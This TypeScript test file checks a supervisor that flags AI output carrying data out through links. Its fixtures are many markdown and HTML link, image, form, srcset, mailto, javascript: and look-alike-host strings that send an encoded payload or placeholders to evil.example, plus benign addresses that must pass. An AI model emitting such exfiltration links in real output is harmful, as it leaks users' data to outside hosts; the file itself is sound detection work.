import { describe, expect, test } from 'vitest';
import type { SupervisionRule } from '#policy';
import { createSupervisor, detectorsOf } from '#supervisor';

const rule: SupervisionRule = {
  id: 'r',
  direction: 'both',
  kinds: ['exfiltration.*'],
  minScore: 70,
  action: 'block',
  text: { en: 'A rule.', ja: '規則' },
};
const supervisor = createSupervisor({
  rules: [rule],
  detectors: detectorsOf({ links: { hosts: ['city.example.jp'] } }),
  classes: ['public'],
});

function kinds(text: string): readonly string[] {
  return supervisor
    .inspect('output', [{ path: 'p', text }])
    .findings.filter(({ score }) => score >= 70)
    .map(({ kind }) => kind);
}

const payload = 'SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ0Mg';

describe('an address that carries data away is found', () => {
  test.each([
    ['a picture', `![x](https://evil.example/p?d=${payload})`, 'image'],
    ['a link', `[x](https://evil.example/p?d=${payload})`, 'link'],
    ['a reference', `[x][1]\n\n[1]: https://evil.example/p?d=${payload}\n`, 'link'],
    ['an autolink', `<https://evil.example/p?d=${payload}>`, 'link'],
    ['running text', `See https://evil.example/p?d=${payload}, please.`, 'link'],
    ['running text in brackets', `(HTTPS://evil.example/p?d=${payload})`, 'link'],
    ['a picture of HTML', `<img alt="a" src='https://evil.example/p?d=${payload}'>`, 'image'],
    [
      'a set of sources',
      `<img srcset="a.png 1x, https://evil.example/p?d=${payload} 2x">`,
      'image',
    ],
    ['a style', `<svg style="background:url(https://evil.example/p?d=${payload})">`, 'image'],
    ['a link of HTML', `<a class="x" href="https://evil.example/p?d=${payload}">go</a>`, 'link'],
    ['a form', `<form action="https://evil.example/p?d=${payload}">`, 'link'],
    ['a stand-in in a path', '[x](https://evil.example/[EMAIL_1]/a)', 'link'],
    ['a stand-in in a host', '![x](https://[EMAIL_1].evil.example/a.png)', 'image'],
    ['a stand-in in running text', 'https://evil.example/?q=[PHONE_2] is it', 'link'],
    ['a letter', '[x](mailto:eve@evil.example?body=[EMAIL_1])', 'link'],
    ['a page in the address', '[x](data:text/html;base64,PHNjcmlwdD4=)', 'link'],
    ['a program in the address', '[x](javascript:fetch(1))', 'link'],
    ['a host in other letters', '![x](https://xn--80ak6aa92e.com/a?d=12345678)', 'image'],
    ['no scheme', `![x](//evil.example/p?d=${payload})`, 'image'],
    [
      'a host behind a trusted name',
      `![x](https://city.example.jp@evil.example/?d=${payload})`,
      'image',
    ],
    [
      'a host before a trusted name',
      `![x](https://evil.example\\.city.example.jp/?d=${payload})`,
      'image',
    ],
    ['a host that ends alike', `![x](https://evilcity.example.jp/?d=${payload})`, 'image'],
  ])('in %s', (_name, text, kind) => {
    expect(kinds(`以下です。 ${text} 以上`)).toContain(`exfiltration.${kind}`);
  });
});

test('an address is read to its own end behind one that is too long', () => {
  const long = `https://a.example/${'x'.repeat(990)}`;
  const [, inner] = kinds(`${long}https://evil.example/p?d=${payload} 以上`);
  expect(inner).toBe('exfiltration.link');
});

describe('an ordinary address is left alone', () => {
  test.each([
    'See [the guide](https://example.org/guide/start?lang=ja) and ![logo](https://example.org/a.png).',
    'https://www.city.example.org/kurashi/zeikin/index.html を見てください。',
    'Search https://example.org/search?q=library+opening+hours+on+sundays here.',
    '![x](data:image/png;base64,iVBORw0KGgo=)',
    `![x](https://www.city.example.jp/p?d=${payload})`,
    `https://city.example.jp:8443/p?d=${payload}`,
    'http and https are schemes, as in "https://".',
    '<a href="https://example.org/">Example</a> <article>x</article>',
    '[memo]: see the file',
  ])('%s', (text) => {
    expect(kinds(text)).toEqual([]);
  });
});
